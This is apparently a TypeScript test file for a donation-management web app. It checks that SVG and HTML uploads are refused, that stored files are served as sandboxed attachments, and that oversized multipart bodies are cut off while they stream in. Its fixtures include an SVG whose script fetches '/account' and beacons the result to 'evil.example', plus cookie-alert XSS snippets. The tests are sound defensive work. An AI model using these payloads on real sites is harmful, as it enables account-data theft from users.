import mongoose from "mongoose";
import { beforeAll, describe, expect, test } from "vitest";
import { Donation } from "#models/donation.server";
import { findFile, saveFile } from "#models/file.server";
import { loader as fileLoader } from "~/routes/files.$id";
import { action as giftAction } from "~/routes/manage.programmes.$id_.gifts.new";
import { action as newProgramme } from "~/routes/manage.programmes.new";
import { createInstitution, createOpenProgramme, programmeFormFields, vnDate } from "#tests/fixtures/domain";
import { BASE, createTestUser, csrfPair, getRequest, joinCookies, multipartRequest, responseOf, sessionCookieFor } from "#tests/utils/requests";

/**
 * Uploads and the files served from them (decision 0020): the type is the one detected from the bytes at
 * upload; HTML and SVG are refused there with their own message; only raster images and PDF are shown
 * in place, anything else is an application/octet-stream attachment; every file response carries
 * nosniff and a policy that runs nothing. A multipart body is capped as a whole while it streams in.
 */

const PNG = Uint8Array.from(atob("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="), (c) => c.charCodeAt(0));
const PDF = new TextEncoder().encode(
  "%PDF-1.4\n1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\n2 0 obj <</Type /Pages /Kids [3 0 R] /Count 1>> endobj\n3 0 obj <</Type /Page /Parent 2 0 R /MediaBox [0 0 72 72]>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n",
);
const SVG = new TextEncoder().encode('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("/account").then(r=>r.text()).then(t=>navigator.sendBeacon("//evil.example",t))</script></svg>');
const HTML = new TextEncoder().encode("\uFEFF  <!doctype html><html><body><script>alert(document.cookie)</script></body></html>");

type Upload = { bytes: Uint8Array; name: string; type: string };

let tokens = 0;
function giftFields() {
  tokens += 1;
  return {
    clientToken: `uploads-test-${Date.now().toString(36)}-${tokens}-abcdef`,
    method: "cash",
    receivedAt: vnDate(-1),
    voucher: "PT-2026-0456",
    amount: "2.000.000",
    donorType: "organisation",
    legalName: "Công ty TNHH Sách Hà Nội",
    taxCode: "0100109106",
  };
}

const storedFiles = () => mongoose.connection.db!.collection("uploads.files").countDocuments();
const serve = (id: string, cookie?: string) => responseOf(fileLoader({ request: getRequest(`/files/${id}`, cookie), params: { id }, context: {} }));

let programmeId: string;
let institutionId: string;
let cookie: string;
let userId: string;

beforeAll(async () => {
  const institution = await createInstitution({ name: "Thư viện Tải lên" });
  institutionId = String(institution._id);
  const programme = await createOpenProgramme(institution, { title: "Tủ sách tải lên", summary: "Kiểm thử tệp.", goal: 100_000_000 });
  programmeId = String(programme._id);
  const manager = await createTestUser({ role: "manager", institutionIds: [institutionId] });
  userId = manager.id;
  cookie = await sessionCookieFor(manager.id);
});

async function postGift(files: Upload[]) {
  const body = new FormData();
  const pair = await csrfPair(cookie);
  body.append("csrf", pair.token);
  for (const [key, value] of Object.entries(giftFields())) body.append(key, value);
  for (const file of files) body.append("evidence", new Blob([file.bytes as Uint8Array<ArrayBuffer>], { type: file.type }), file.name);
  const request = new Request(`${BASE}/manage/programmes/${programmeId}/gifts/new`, { method: "POST", body, headers: { Cookie: joinCookies(cookie, pair.cookie) } });
  return responseOf(giftAction({ request, params: { id: programmeId }, context: {} }));
}

describe("what is stored from an upload", () => {
  test("an SVG with a script, and an HTML page named .png, are refused with their own message; nothing is stored", async () => {
    const before = { files: await storedFiles(), donations: await Donation.countDocuments() };
    for (const upload of [
      { bytes: SVG, name: "logo.svg", type: "image/svg+xml" },
      { bytes: HTML, name: "anh-ban-giao.png", type: "image/png" },
    ]) {
      const response = await postGift([upload]);
      expect(response.status).toBe(400);
      expect((await response.json()).errors.evidence).toEqual(["files.markupRefused"]);
    }
    // The same for a programme's cover image.
    const cover = await responseOf(
      newProgramme({ request: await multipartRequest(`/manage/programmes/new?institution=${institutionId}`, { ...programmeFormFields(), cover: new Blob([SVG], { type: "image/svg+xml" }) }, { cookie, filename: "bia.svg" }), params: {}, context: {} }),
    );
    expect(cover.status).toBe(400);
    expect((await cover.json()).errors.cover).toEqual(["files.markupRefusedImage"]);
    expect({ files: await storedFiles(), donations: await Donation.countDocuments() }).toEqual(before);
  });

  test("a PDF and a PNG are stored with the type read from their bytes, whatever the browser claimed, and shown in place", async () => {
    const response = await postGift([
      { bytes: PDF, name: "phieu-thu.bin", type: "application/octet-stream" },
      { bytes: PNG, name: "ảnh bàn giao.jpg", type: "text/html" },
    ]);
    expect(response.status).toBe(302);
    const donation = await Donation.findOne({ programmeId }).sort({ _id: -1 }).lean();
    const [pdfId, pngId] = donation!.evidenceFileIds.map(String);
    expect((await findFile(pdfId!))?.metadata.contentType).toBe("application/pdf");
    expect((await findFile(pngId!))?.metadata.contentType).toBe("image/png");

    const pdf = await serve(pdfId!, cookie);
    expect(pdf.status).toBe(200);
    expect(Object.fromEntries(pdf.headers)).toMatchObject({
      "content-type": "application/pdf",
      "content-disposition": `inline; filename="phieu-thu.bin"; filename*=UTF-8''phieu-thu.bin`,
      "x-content-type-options": "nosniff",
      "cache-control": "private, no-store",
    });
    expect(pdf.headers.get("Content-Security-Policy")).toMatch(/^default-src 'none';/);
    expect(new Uint8Array(await pdf.arrayBuffer())).toEqual(PDF);

    const png = await serve(pngId!, cookie);
    expect(png.headers.get("Content-Type")).toBe("image/png");
    expect(png.headers.get("Content-Disposition")).toBe(`inline; filename="_nh b_n giao.jpg"; filename*=UTF-8''${encodeURIComponent("ảnh bàn giao.jpg")}`);
    expect(png.headers.get("X-Content-Type-Options")).toBe("nosniff");
    expect(png.headers.get("Content-Security-Policy")).toBe("default-src 'none'; frame-ancestors 'none'; sandbox");
    expect(new Uint8Array(await png.arrayBuffer())).toEqual(PNG);
  });
});

describe("what is served for a file stored with another type", () => {
  // Files stored before these rules, or by a future path that forgot them: never HTML or SVG on our origin.
  test.each([
    ["text/html", "trang.html", HTML],
    ["image/svg+xml", "logo.svg", SVG],
    ["application/xhtml+xml", "trang.xhtml", HTML],
    ["text/plain", "ghi-chu.txt", new TextEncoder().encode("<script>alert(1)</script>")],
  ])("%s → application/octet-stream, as an attachment, sandboxed", async (contentType, name, bytes) => {
    const id = await saveFile(bytes, name, { kind: "evidence", contentType, institutionId, uploadedBy: userId, originalName: name });
    const response = await serve(id, cookie);
    expect(response.status).toBe(200);
    expect(response.headers.get("Content-Type")).toBe("application/octet-stream");
    expect(response.headers.get("Content-Disposition")).toBe(`attachment; filename="${name}"; filename*=UTF-8''${name}`);
    expect(response.headers.get("X-Content-Type-Options")).toBe("nosniff");
    expect(response.headers.get("Content-Security-Policy")).toBe("default-src 'none'; frame-ancestors 'none'; sandbox");
    await response.arrayBuffer();
  });

  test("a public cover stored as SVG is not shown in place either", async () => {
    const id = await saveFile(SVG, "bia.svg", { kind: "cover", contentType: "image/svg+xml", institutionId, uploadedBy: userId, originalName: "bia.svg" });
    const response = await serve(id);
    expect(response.headers.get("Content-Type")).toBe("application/octet-stream");
    expect(response.headers.get("Content-Disposition")).toMatch(/^attachment;/);
    await response.arrayBuffer();
  });
});

describe("a multipart body's total size is limited while it streams in", () => {
  const boundary = "----gopsuc-upload-cap";
  const MB = 1024 * 1024;
  /**
   * A multipart body of `parts` evidence files of 1 MB each (each under the 5 MB per-file cap), made as
   * it is pulled, from one reused chunk: the generator itself holds nothing. Counts what was pulled.
   */
  function hugeBody(parts: number) {
    const encoder = new TextEncoder();
    const filler = new Uint8Array(256 * 1024).fill(0x41);
    const head = encoder.encode(`--${boundary}\r\nContent-Disposition: form-data; name="evidence"; filename="scan.pdf"\r\nContent-Type: application/pdf\r\n\r\n`);
    const tail = encoder.encode("\r\n");
    let step = 0;
    const state = { pulledBytes: 0 };
    const perPart = 1 + 4 + 1; // head, 4 × 256 KB, tail
    const stream = new ReadableStream<Uint8Array>({
      pull(controller) {
        if (step >= parts * perPart) {
          controller.enqueue(encoder.encode(`--${boundary}--\r\n`));
          controller.close();
          return;
        }
        const at = step % perPart;
        const chunk = at === 0 ? head : at === perPart - 1 ? tail : filler;
        step += 1;
        state.pulledBytes += chunk.byteLength;
        controller.enqueue(chunk);
      },
    });
    return { stream, state };
  }

  async function sendHuge(parts: number, headers: Record<string, string> = {}) {
    const { stream, state } = hugeBody(parts);
    const request = new Request(`${BASE}/manage/programmes/${programmeId}/gifts/new`, {
      method: "POST",
      body: stream,
      duplex: "half",
      headers: { "Content-Type": `multipart/form-data; boundary=${boundary}`, Cookie: cookie, ...headers },
    } as RequestInit);
    const response = await responseOf(giftAction({ request, params: { id: programmeId }, context: {} }));
    return { response, state };
  }

  test("200 MB sent in chunks with no length: 413 'too large' once past the limit, without holding the body", async () => {
    const before = { files: await storedFiles(), donations: await Donation.countDocuments() };
    global.gc?.();
    const rssBefore = process.memoryUsage().rss;
    const { response, state } = await sendHuge(200);
    const rssGrowth = process.memoryUsage().rss - rssBefore;
    console.info(`[uploads] 200 MB body: ${(state.pulledBytes / MB).toFixed(1)} MB read, rss +${(rssGrowth / MB).toFixed(1)} MB`);
    expect(response.status).toBe(413);
    expect(await response.text()).toBe("errors.tooLarge");
    // Reading stopped just past the limit (3 files of 5 MB and the fields), and memory grew by far less than the body.
    expect(state.pulledBytes).toBeLessThan(20 * MB);
    expect(rssGrowth).toBeLessThan(60 * MB);
    expect({ files: await storedFiles(), donations: await Donation.countDocuments() }).toEqual(before);
  });

  test("a body that lies about its length is cut off all the same", async () => {
    const { response, state } = await sendHuge(100, { "Content-Length": "2048" });
    expect(response.status).toBe(413);
    expect(state.pulledBytes).toBeLessThan(20 * MB);
  });

  test("a body that declares more than the limit is refused before a byte is read", async () => {
    const { response, state } = await sendHuge(500, { "Content-Length": String(500 * MB) });
    expect(response.status).toBe(413);
    expect(await response.text()).toBe("errors.tooLarge");
    expect(state.pulledBytes).toBeLessThan(1 * MB);
  });

  test("the programme form (one cover image) has its own, smaller limit", async () => {
    const { stream, state } = hugeBody(100);
    const request = new Request(`${BASE}/manage/programmes/new?institution=${institutionId}`, {
      method: "POST",
      body: stream,
      duplex: "half",
      headers: { "Content-Type": `multipart/form-data; boundary=${boundary}`, Cookie: cookie },
    } as RequestInit);
    const response = await responseOf(newProgramme({ request, params: {}, context: {} }));
    expect(response.status).toBe(413);
    expect(state.pulledBytes).toBeLessThan(5 * MB);
  });
});
